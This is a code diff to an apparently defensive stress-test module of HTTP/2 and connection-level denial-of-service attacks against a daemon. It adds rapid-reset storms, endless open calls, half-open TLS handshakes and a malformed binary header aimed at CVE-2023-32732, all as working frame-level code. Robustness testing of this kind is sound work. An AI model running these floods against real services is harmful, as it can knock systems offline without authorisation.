@@ -1,10 +1,11 @@
 """Peers that speak HTTP/2 frame by frame (RFC 9113), as no library would."""
 
 import contextlib
+import dataclasses
 import select
 import struct
 
-from attacks.catalogue import APART, attack, hold
+from attacks.catalogue import APART, STORM, attack, hold
 
 DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
 END_STREAM, END_HEADERS = 1, 4
@@ -56,9 +57,9 @@ class Http2:
             raise ConnectionResetError("ended")
         return data
 
-    def headers(self, path=INFO, flags=END_HEADERS):
+    def headers(self, path=INFO, flags=END_HEADERS, extra=b""):
         """Those of a new call."""
-        head = frame(HEADERS, flags, self.next, block(path, self.token))
+        head = frame(HEADERS, flags, self.next, block(path, self.token, extra))
         self.next += 2
         return head
 
@@ -146,17 +147,89 @@ def window_overflow(target, told, over):
             told["updates"] += 1
 
 
+def stranger(target):
+    return dataclasses.replace(target, token="")
+
+
+def resets(peer, count, message=False):
+    """Calls that are reset as soon as they have begun, or with the head of a message before."""
+    data = b""
+    for _ in range(count):
+        stream = peer.next
+        data += peer.headers(STREAM)
+        if message:
+            data += frame(DATA, 0, stream, bytes(5))
+        data += frame(RESET, 0, stream, struct.pack(">I", 8))
+    return data
+
+
+def keep_resetting(target, told, over, message=False):
+    with Http2(target) as peer:
+        while not over.is_set():
+            peer.send(resets(peer, 100, message))
+            told["resets"] += 100
+
+
 @attack("http2")
 def rapid_reset(target, told, over):
     """Calls that are reset as soon as they have begun."""
-    with Http2(target) as peer:
-        while not over.is_set():
-            data = b""
+    keep_resetting(target, told, over)
+
+
+@attack(STORM)
+def reset_storm(target, told, over):
+    """Connections without a token that bring 2,000 resets and are closed at once."""
+    with Http2(stranger(target)) as peer:
+        storm = PREFACE + frame(SETTINGS, 0, 0) + resets(peer, 2000)
+    while not over.is_set():
+        with contextlib.closing(target.tcp()) as peer:
+            peer.sendall(storm)
+            told["resets"] += 2000
+
+
+@attack(STORM)
+def reset_storm_kept(target, told, over):
+    """Resets without a token and without end, on one connection."""
+    keep_resetting(stranger(target), told, over)
+
+
+@attack(STORM)
+def reset_storm_of_messages(target, told, over):
+    """The same of calls that have sent the head of a message."""
+    keep_resetting(stranger(target), told, over, message=True)
+
+
+@attack(STORM)
+def calls_without_end(target, told, over):
+    """As many calls as may be open, on as many connections as there are places, each with the head of a message and no more."""
+    peers = held(lambda: Http2(stranger(target)), 400)
+    for peer in peers:
+        with contextlib.suppress(OSError):
             for _ in range(100):
                 stream = peer.next
-                data += peer.headers(STREAM) + frame(RESET, 0, stream, struct.pack(">I", 8))
-            peer.send(data)
-            told["resets"] += 100
+                peer.send(peer.headers(STREAM) + frame(DATA, 0, stream, struct.pack(">BI", 0, 1000)))
+    hold(peers, told, over)
+
+
+@attack(STORM)
+def refused_calls(target, told, over):
+    """Whole calls without a token."""
+    with Http2(stranger(target)) as peer:
+        while not over.is_set():
+            stream = peer.next
+            peer.send(peer.headers() + frame(DATA, END_STREAM, stream, bytes(5)))
+            told["calls"] += 1
+
+
+@attack(STORM)
+def bad_binary_header(target, told, over):
+    """Calls whose binary metadata is no base64, for which gRPC 1.51 ends the connection (CVE-2023-32732)."""
+    bad = b"\x00" + text(b"x-bin") + text(b"!")
+    with Http2(target) as peer:
+        while not over.wait(0.001):
+            stream = peer.next
+            peer.send(peer.headers(extra=bad) + frame(DATA, END_STREAM, stream, bytes(5)))
+            told["calls"] += 1
 
 
 @attack("http2")
@@ -173,9 +246,10 @@ def continuation_flood(target, told, over):
 @attack("http2")
 def headers_without_end(target, told, over):
     """Fifty connections whose header stops in the middle."""
-    peers = [Http2(target) for _ in range(50)]
+    peers = held(lambda: Http2(target), 50)
     for peer in peers:
-        peer.send(peer.headers(flags=0))
+        with contextlib.suppress(OSError):
+            peer.send(peer.headers(flags=0))
     hold(peers, told, over)
 
 
@@ -235,6 +309,14 @@ def empty_data(target, told, over):
             told["frames"] += 500
 
 
+def held(connect, count):
+    """Opens `count` connections, or as many as are accepted."""
+    peers = []
+    with contextlib.suppress(OSError):
+        peers += (connect() for _ in range(count))
+    return peers
+
+
 @attack("connections")
 def connection_flood(target, told, over):
     """Connections that come and go as fast as they can."""
@@ -246,13 +328,23 @@ def connection_flood(target, told, over):
 @attack("connections")
 def silent_connections(target, told, over):
     """More connections than the daemon has places, which say nothing."""
-    hold([target.tcp() for _ in range(1200)], told, over)
+    hold(held(target.tcp, 1200), told, over)
+
+
+@attack(STORM)
+def handshakes_without_end(target, told, over):
+    """As many connections as there are places, each with the beginning of a TLS handshake, held for as long as they may be."""
+    peers = held(target.bytes, 400)
+    for peer in peers:
+        with contextlib.suppress(OSError):
+            peer.sendall(b"\x16\x03\x01")
+    hold(peers, told, over)
 
 
 @attack("connections")
 def tls_hello(target, told, over):
     """The beginning of a TLS handshake, to a plain port."""
-    with contextlib.closing(target.tcp()) as peer:
+    with contextlib.closing(target.bytes()) as peer:
         peer.sendall(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(507))
         told["hellos"] += 1
         peer.recv(100)
@@ -262,7 +354,7 @@ def tls_hello(target, told, over):
 def http1_garbage(target, told, over):
     """HTTP/1 and noise, where HTTP/2 is spoken."""
     for data in (b"GET / HTTP/1.1\r\nHost: a\r\n\r\n", bytes(range(256)) * 64):
-        with contextlib.closing(target.tcp()) as peer:
+        with contextlib.closing(target.bytes()) as peer:
             peer.sendall(data)
             told["garbage"] += 1
             peer.recv(100)
@@ -271,7 +363,7 @@ def http1_garbage(target, told, over):
 @attack("connections")
 def slow_http(target, told, over):
     """Three hundred requests for metrics, a byte at a time."""
-    peers = [target.tcp(target.http_port) for _ in range(300)]
+    peers = held(lambda: target.bytes(target.http_port), 300)
     told["connections"] += len(peers)
     while not over.wait(0.2):
         for peer in peers:
@@ -286,7 +378,7 @@ def slow_http(target, told, over):
 @attack("connections")
 def metrics_flood(target, told, over):
     """Metrics, asked for without a pause."""
-    with contextlib.closing(target.tcp(target.http_port)) as peer:
+    with contextlib.closing(target.bytes(target.http_port)) as peer:
         peer.sendall(b"GET /metrics HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n")
         while peer.recv(1 << 16):
             pass
